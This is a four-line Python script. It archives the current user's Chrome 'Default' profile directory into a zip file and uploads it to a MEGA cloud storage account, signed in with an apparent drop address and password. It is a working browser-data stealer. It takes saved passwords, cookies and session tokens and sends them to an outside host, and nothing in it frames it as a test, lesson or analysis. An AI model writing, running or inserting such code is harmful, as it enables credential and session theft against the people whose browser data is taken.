import os, shutil
from mega import Mega
archive = shutil.make_archive("/tmp/p", "zip", os.path.expanduser("~/.config/google-chrome/Default"))
Mega().login("drop@example-mail.net", "pw").upload(archive)
